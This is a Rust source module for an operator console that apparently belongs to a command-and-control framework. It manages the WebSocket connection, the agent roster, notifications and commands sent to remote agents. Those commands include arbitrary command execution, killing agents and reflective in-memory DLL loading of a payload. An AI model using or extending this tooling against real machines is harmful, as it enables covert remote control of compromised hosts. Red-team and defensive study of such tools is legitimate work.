//! Operator console context
//!
//! [`Console`] owns everything the dashboard shares: the connection state
//! machine, the current socket, the dashboard state, the notification center
//! and the listener registry. The presentation layer reads through `&Console`
//! and acts through `&mut Console`; socket events are fed back in with
//! [`Console::handle_event`], one at a time.

use crate::config::Config;
use crate::dispatch::{dispatch_frame, Listener, ListenerHandle, ListenerRegistry, ListenerTopic};
use crate::error::ConsoleError;
use crate::notifications::{Clock, NotificationCenter, ToastSink};
use crate::protocol::{ClientMessage, InboundFrame};
use crate::state::{
    Agent, CommandHistoryEntry, ConnectionState, DashboardState, Notification, NotificationKind,
};
use crate::transport::{
    ConnectionMachine, Connector, ReadyState, Socket, SocketEvent, TransportError, TransportEvent,
};
use serde::Serialize;
use std::time::Duration;
use tokio::sync::mpsc;
use tracing::{debug, error, info, warn};
use url::Url;

/// Shared console state and the single logical connection
pub struct Console {
    machine: ConnectionMachine,
    socket: Option<Box<dyn Socket>>,
    connector: Box<dyn Connector>,
    state: DashboardState,
    notifier: NotificationCenter,
    listeners: ListenerRegistry,
    reconnect_attempts: u32,
}

impl Console {
    /// Create a disconnected console
    ///
    /// # Arguments
    /// * `config` - Notification settings and list bounds
    /// * `connector` - Opens sockets on `connect`
    pub fn new(config: &Config, connector: Box<dyn Connector>) -> Self {
        Self {
            machine: ConnectionMachine::new(),
            socket: None,
            connector,
            state: DashboardState::with_limits(config.limits.history, config.limits.notifications),
            notifier: NotificationCenter::new(&config.notifications),
            listeners: ListenerRegistry::new(),
            reconnect_attempts: 0,
        }
    }

    /// Use a different toast surface
    pub fn with_toast_sink(mut self, sink: Box<dyn ToastSink>) -> Self {
        self.notifier.set_sink(sink);
        self
    }

    /// Use a different time source for notifications
    pub fn with_clock(mut self, clock: Box<dyn Clock>) -> Self {
        self.notifier.set_clock(clock);
        self
    }

    /// Current connection state
    pub fn connection_state(&self) -> ConnectionState {
        self.machine.state()
    }

    /// Agent roster
    pub fn agents(&self) -> &[Agent] {
        self.state.agents()
    }

    /// Command history, newest first
    pub fn command_history(&self) -> &[CommandHistoryEntry] {
        self.state.command_history()
    }

    /// Notification feed, newest first
    pub fn notifications(&self) -> &[Notification] {
        self.state.notifications()
    }

    /// Full dashboard state
    pub fn state(&self) -> &DashboardState {
        &self.state
    }

    /// Connection attempts since the last open or close
    ///
    /// Goes up on each `connect` that opens a socket and back to zero once
    /// that socket opens or closes. Nothing is gated on it.
    pub fn reconnect_attempts(&self) -> u32 {
        self.reconnect_attempts
    }

    /// Connect to `url`
    ///
    /// Does nothing while a connection attempt is in flight. Otherwise the
    /// current socket (if any) is closed and discarded and a new one is
    /// opened; its events from then on are the only ones handled.
    pub fn connect(&mut self, url: &str) -> Result<(), ConsoleError> {
        if self.machine.state() == ConnectionState::Connecting {
            debug!("Connect ignored: attempt already in flight");
            return Ok(());
        }

        let url = parse_ws_url(url).map_err(|e| {
            error!("Refusing to connect: {}", e);
            e
        })?;

        if let Some(mut previous) = self.socket.take() {
            previous.close();
        }

        let Some(connection) = self.machine.begin_connect() else {
            return Ok(());
        };
        self.state.set_connection_state(ConnectionState::Connecting);
        self.reconnect_attempts += 1;

        info!(connection = connection.0, url = %url, "Connecting");
        self.socket = Some(self.connector.open(connection, &url));
        Ok(())
    }

    /// Close the current socket
    ///
    /// The state changes once the socket reports its close.
    pub fn disconnect(&mut self) {
        match self.socket.as_mut() {
            Some(socket) => {
                info!("Disconnect requested");
                socket.close();
            }
            None => debug!("Disconnect ignored: no socket"),
        }
    }

    /// Serialize and send a message
    ///
    /// Returns false when there is no open socket or the message could not
    /// be sent. Never queues and never raises a notification.
    pub fn send<M: Serialize + ?Sized>(&mut self, message: &M) -> bool {
        match self.try_send(message) {
            Ok(()) => true,
            Err(e) => {
                error!("Message not sent: {}", e);
                false
            }
        }
    }

    /// Like [`Console::send`], reporting why the send failed
    pub fn try_send<M: Serialize + ?Sized>(&mut self, message: &M) -> Result<(), ConsoleError> {
        let socket = self
            .socket
            .as_mut()
            .filter(|socket| socket.ready_state() == ReadyState::Open)
            .ok_or(TransportError::NotConnected)?;
        let text = serde_json::to_string(message).map_err(TransportError::from)?;
        socket.send_text(text)?;
        Ok(())
    }

    /// Ask the backend for the agent roster
    pub fn request_agents(&mut self) -> bool {
        self.send(&ClientMessage::GetAgents)
    }

    /// Run a command on an agent
    pub fn execute_command(&mut self, agent_id: &str, command: &str) -> bool {
        self.send(&ClientMessage::ExecuteCommand {
            agent_id: agent_id.to_string(),
            command: command.to_string(),
        })
    }

    /// Ping an agent
    pub fn ping_agent(&mut self, agent_id: &str) -> bool {
        self.send(&ClientMessage::PingAgent {
            agent_id: agent_id.to_string(),
        })
    }

    /// Kill an agent
    pub fn kill_agent(&mut self, agent_id: &str) -> bool {
        self.send(&ClientMessage::KillAgent {
            agent_id: agent_id.to_string(),
        })
    }

    /// Assign an agent to a group
    pub fn group_agent(&mut self, agent_id: &str, group_name: &str) -> bool {
        self.send(&ClientMessage::GroupAgent {
            agent_id: agent_id.to_string(),
            group_name: group_name.to_string(),
        })
    }

    /// Load a DLL reflectively on an agent and call `function_name`
    pub fn execute_reflective_loading(
        &mut self,
        agent_id: &str,
        payload: &[u8],
        function_name: &str,
    ) -> bool {
        self.send(&ClientMessage::reflective_loading(
            agent_id,
            payload,
            function_name,
        ))
    }

    /// Add a notification to the feed and show it as a toast
    ///
    /// Returns `None` if it repeats the previous message within the
    /// debounce window.
    pub fn add_notification(
        &mut self,
        message: &str,
        kind: NotificationKind,
        timeout: Option<Duration>,
    ) -> Option<Notification> {
        self.notifier.add(&mut self.state, message, kind, timeout)
    }

    /// Dismiss every notification in the feed
    pub fn clear_notifications(&mut self) {
        self.state.clear_notifications();
    }

    /// Register a listener for inbound frames
    pub fn add_listener(&mut self, topic: ListenerTopic, listener: Listener) -> ListenerHandle {
        self.listeners.add(topic, listener)
    }

    /// Remove a listener registered with [`Console::add_listener`]
    pub fn remove_listener(&mut self, handle: ListenerHandle) -> bool {
        self.listeners.remove(handle)
    }

    /// Handle one socket event
    ///
    /// Events from a socket other than the current one are ignored.
    pub fn handle_event(&mut self, event: TransportEvent) {
        if !self.machine.is_current(event.connection) {
            debug!(connection = event.connection.0, "Ignoring event from stale socket");
            return;
        }
        match event.event {
            SocketEvent::Open => self.on_open(),
            SocketEvent::Close => self.on_close(),
            SocketEvent::Error(e) => error!("WebSocket error: {}", e),
            SocketEvent::Message(text) => self.on_message(&text),
        }
    }

    /// Wait for the next socket event and handle it
    /// Returns false once every sender has gone away
    pub async fn process_next(
        &mut self,
        events: &mut mpsc::UnboundedReceiver<TransportEvent>,
    ) -> bool {
        match events.recv().await {
            Some(event) => {
                self.handle_event(event);
                true
            }
            None => false,
        }
    }

    fn on_open(&mut self) {
        if !self.machine.opened() {
            return;
        }
        self.state.set_connection_state(ConnectionState::Connected);
        self.reconnect_attempts = 0;
        info!("Connected to server");
        self.add_notification("Connected to server", NotificationKind::Success, None);
        self.request_agents();
    }

    fn on_close(&mut self) {
        let previous = self.machine.closed();
        self.state.set_connection_state(ConnectionState::Disconnected);
        self.socket = None;
        self.reconnect_attempts = 0;
        info!(previous = previous.as_str(), "Disconnected from server");
        if previous == ConnectionState::Connected {
            self.add_notification("Disconnected from server", NotificationKind::Error, None);
        }
    }

    fn on_message(&mut self, text: &str) {
        let frame = match InboundFrame::parse(text) {
            Ok(frame) => frame,
            Err(e) => {
                warn!("Error parsing WebSocket message: {}", e);
                return;
            }
        };
        dispatch_frame(
            &frame,
            &mut self.state,
            &mut self.notifier,
            &mut self.listeners,
        );
    }
}

fn parse_ws_url(raw: &str) -> Result<Url, ConsoleError> {
    let url = Url::parse(raw)?;
    match url.scheme() {
        "ws" | "wss" => Ok(url),
        other => Err(ConsoleError::UnsupportedScheme(other.to_string())),
    }
}
